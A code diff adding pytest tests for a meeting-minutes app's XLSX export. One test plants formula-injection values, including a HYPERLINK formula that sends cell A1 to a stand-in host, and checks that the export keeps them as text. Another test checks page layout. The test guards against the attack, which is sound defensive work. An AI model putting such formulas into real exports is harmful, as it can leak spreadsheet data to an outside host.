@@ -12,8 +12,10 @@ from minutes.records import render, service
 
 @pytest.fixture
 def distributed(recorded, clock):
-    def build(**kwargs):
+    def build(before_draft=None, **kwargs):
         r = recorded(**kwargs)
+        if before_draft:
+            before_draft(r)
         clock(2026, 6, 18, 16, 0)
         service.draft_from_record(r.recorder, r.meeting)
         version = service.distribute(r.recorder, r.meeting)
@@ -139,3 +141,43 @@ def test_markdown_of_a_version_hashes_its_canonical_content(distributed):
     r, v = distributed()
     canonical = render.canonical_content(v.body, v.decisions, v.actions)
     assert hashlib.sha256(canonical.encode("utf-8")).hexdigest() == v.content_hash
+
+
+FORMULAS = ['=HYPERLINK("http://x"&A1,"点击")', "\t=1+1", "+1+2", "-3+4", "@SUM(A1:A2)", "\r=2*3"]
+
+
+def test_xlsx_export_writes_user_text_as_text_never_as_a_formula(distributed, client, login_as):
+    from openpyxl import load_workbook
+
+    def formulas_in_the_record(r):
+        r.actions[0].text, r.actions[1].text = FORMULAS[0], FORMULAS[1]
+        r.items[0].title, r.items[1].title = FORMULAS[2], FORMULAS[3]
+        r.late.name, r.late.department.name = FORMULAS[4], FORMULAS[5]
+        r.meeting.topic = FORMULAS[0]
+        db.session.commit()
+
+    r, v = distributed(before_draft=formulas_in_the_record)
+    login_as(r.member)
+    book = load_workbook(io.BytesIO(download(client, v, "xlsx").get_data()))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells}
+    assert set(FORMULAS) <= texts  # shown as typed, not with a quote in front
+    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r")
+
+
+def test_xlsx_export_prints_landscape_one_page_wide_with_the_header_on_every_page(distributed, client, login_as):
+    from openpyxl import load_workbook
+
+    r, v = distributed()
+    login_as(r.member)
+    sheet = load_workbook(io.BytesIO(download(client, v, "xlsx").get_data()))["待办事项跟踪表"]
+    setup = sheet.page_setup
+    assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9)  # 9: A4
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
+    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
+    assert sheet.print_title_rows == "$1:$1"
+    widths = [sheet.column_dimensions[col].width for col in "ABCDEFGHI"]
+    assert all(w >= 5 for w in widths) and sum(widths) <= 130  # near full size at one page wide
+    assert widths[2] == max(widths)  # the task description gets the room
+    assert all(cell.alignment.wrap_text for row in sheet.iter_rows() for cell in row)
